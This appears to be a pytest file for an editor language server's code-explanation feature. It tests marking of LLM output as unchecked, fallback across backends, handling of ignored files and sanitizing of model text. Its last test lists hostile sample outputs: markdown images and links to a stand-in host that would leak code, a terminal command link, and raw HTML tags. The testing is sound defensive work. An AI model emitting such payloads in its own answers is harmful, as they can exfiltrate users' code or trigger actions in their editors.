"""What a model says is put above what is known, marked as its own, made safe, and never stands in the way of the rest."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from copilot_ls.backends.base import Usage
from copilot_ls.backends.chat import ChatChunk, ChatRequest
from copilot_ls.features.explaining.untrusted import made_safe
from copilot_ls.features.workbench import Workbench
from tests.explaining.conftest import Explained
from tests.routing.world import Says, fault

CODE = "def twice(n):\n    return n█ + n\n"


class Talks(Says):
    """Says its steps: texts, exceptions to raise, or events to wait for."""

    def __init__(self, name: str, *steps: Any) -> None:
        super().__init__(name, "", *steps)
        self.asked: list[ChatRequest] = []

    async def chat(self, request: ChatRequest) -> AsyncGenerator[ChatChunk, None]:
        self.asked.append(request)
        try:
            for step in self.steps:
                if isinstance(step, Exception):
                    raise step
                if isinstance(step, asyncio.Event):
                    await step.wait()
                else:
                    yield ChatChunk(str(step))
            yield ChatChunk(usage=Usage(10, output_tokens=2))
        except asyncio.CancelledError:
            self.n_cancelled += 1
            raise


async def test_a_models_words_come_first_and_are_marked(explained: Explained) -> None:
    model = Talks("large", "It doubles ", "`n`.")
    found = await explained.at("a.py", CODE, backends={"large": model})
    assert found.markdown.startswith(
        "*In the words of `large-model`; not checked.*\n\nIt doubles `n`.\n\n---\n\n## `twice`"
    )
    assert (found.backend, found.model, found.note) == ("large", "large-model", "")
    assert "**Rests on** `a.py:1-2`" in found.markdown
    # What is known is there before the model has begun, and the whole page grows.
    assert explained.heard[0].startswith("## `twice`")
    assert [("It doubles" in page, "`n`." in page) for page in explained.heard] == [
        (False, False),
        (True, False),
        (True, True),
    ]


async def test_it_is_asked_about_the_whole_function_with_what_is_reported(explained: Explained) -> None:
    model = Talks("large", "x")
    await explained.at("a.py", CODE, backends={"large": model}, diagnostic=("Ruff", "F821", "Undefined name `n`"))
    text = model.asked[0].messages[-1].content
    assert "def twice(n):\n    return n + n\n" in text
    assert "line 2: Undefined name `n`" in text
    await explained.at("a.py", CODE, backends={"large": model}, question="Is it fast?")
    assert model.asked[1].messages[-1].content.endswith("Is it fast?")


@pytest.mark.parametrize(
    ("steps", "note"),
    [
        ((fault("http_500"),), "no model could answer (http_500)"),
        (("It do", fault("stream_broken")), "the model's answer broke off (stream_broken)"),
        (("  ",), "the model said nothing"),
        (("a" * 30_000, "b"), "the model's answer was cut: it went on and on"),
    ],
    ids=["fails", "breaks off", "says nothing", "goes on"],
)
async def test_a_model_that_fails_costs_its_part_alone(explained: Explained, steps: Any, note: str) -> None:
    found = await explained.at("a.py", CODE, backends={"large": Talks("large", *steps)})
    assert found.note == note
    assert "## `twice`: a function" in found.markdown
    assert f"*{note[0].upper()}{note[1:]}.*" in found.markdown


async def test_when_no_backend_of_the_route_can_answer_it_says_who_knows_why(explained: Explained) -> None:
    found = await explained.at("a.py", CODE, settings={"route": {"explain": ["embedded"]}})
    assert found.note == "no model could answer (no_backend); `copilot-ls doctor --route explain` says why"


async def test_the_next_model_of_the_route_answers(explained: Explained) -> None:
    found = await explained.at(
        "a.py", CODE, backends={"cheap": Talks("cheap", fault("http_500")), "dear": Talks("dear", "Doubles.")}
    )
    assert (found.backend, "Doubles." in found.markdown) == ("dear", True)
    assert explained.world is not None
    kinds = [type(event).__name__ for event in explained.world.events]
    assert kinds == ["BackendAsked", "BackendFault", "BackendAsked", "Explained"]
    assert (explained.world.events[-1].backend, explained.world.events[-1].model) == ("dear", "dear-model")
    assert {event.task for event in explained.world.events} == {"explain"}


async def test_nothing_of_an_ignored_file_is_sent(explained: Explained) -> None:
    model = Talks("large", "x")
    files = {".copilotignore": "secret.py\n"}
    found = await explained.at("secret.py", CODE, files, backends={"large": model})
    assert model.asked == []
    assert found.note == "the file is ignored, and no model is sent anything of it"


async def test_without_a_model_it_says_what_is_known(explained: Explained) -> None:
    found = await explained.at("a.py", CODE)
    assert (found.backend, found.note) == ("embedded", "no model is configured for explaining")
    assert "**Returns** `n + n` (line 2)" in found.markdown


async def test_cancelling_reaches_the_model(explained: Explained) -> None:
    model = Talks("large", "It", asyncio.Event())
    task = asyncio.ensure_future(explained.at("a.py", CODE, backends={"large": model}))
    while len(explained.heard) < 2:
        await asyncio.sleep(0)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert model.n_cancelled == 1


async def test_a_broken_index_costs_its_part_alone(explained: Explained, monkeypatch: pytest.MonkeyPatch) -> None:
    from copilot_ls.features.explaining import explainer

    def broken(*_: object, **__: object) -> None:
        raise OSError("no")

    monkeypatch.setattr(explainer, "facts_about", broken)
    found = await explained.at("a.py", CODE)
    assert "Less is known here than should be" in found.markdown


def test_the_workbench_has_one() -> None:
    workbench = Workbench(record_telemetry=False)
    assert workbench.code_explainer() is workbench.code_explainer()


@pytest.mark.parametrize(
    ("said", "safe"),
    [
        ("![x](http://evil.example/?q=code)", "![x] (http://evil.example/?q=code)"),
        ("[click](command:workbench.action.terminal)", "[click] (command:workbench.action.terminal)"),
        ("![x][y]\n\n[y]: http://evil.example/a.png", "![x][y]\n\n\\[y]: http://evil.example/a.png"),
        ("> - [y]: http://evil.example", "> - \\[y]: http://evil.example"),
        ("<img src=http://evil.example>", "&lt;img src=http://evil.example>"),
        ("a ` b\nc ` <IMG SRC=x> `", "a ` b\nc ` &lt;IMG SRC=x> `"),
        ("<p style='background:url(x)'>", "&lt;p style='background:url(x)'>"),
        ("<!-- a --> <?x ?>", "&lt;!-- a --> &lt;?x ?>"),
        ("Use `Vec<T>` and `Map<K, V>`", "Use `Vec<T>` and `Map<K, V>`"),
        ("```rust\nvec![1](x)\n<img>\n```\n[a](b)", "```rust\nvec![1](x)\n<img>\n```\n[a] (b)"),
        ("- a\n  ```\n![x](y)", "- a\n  ```\n![x] (y)"),
        ("````\n```\n[a](b)\n````\n[a](b)", "````\n```\n[a](b)\n````\n[a] (b)"),
        ("```py\ncut off", "```py\ncut off\n```"),
        ("~~~\n[a](b)\n   ~~~~  \n[a](b)", "~~~\n[a](b)\n   ~~~~  \n[a] (b)"),
        ("``` a`b\n[a](b)", "``` a`b\n[a] (b)"),
    ],
)
def test_what_a_model_writes_loads_nothing(said: str, safe: str) -> None:
    assert made_safe(said) == safe
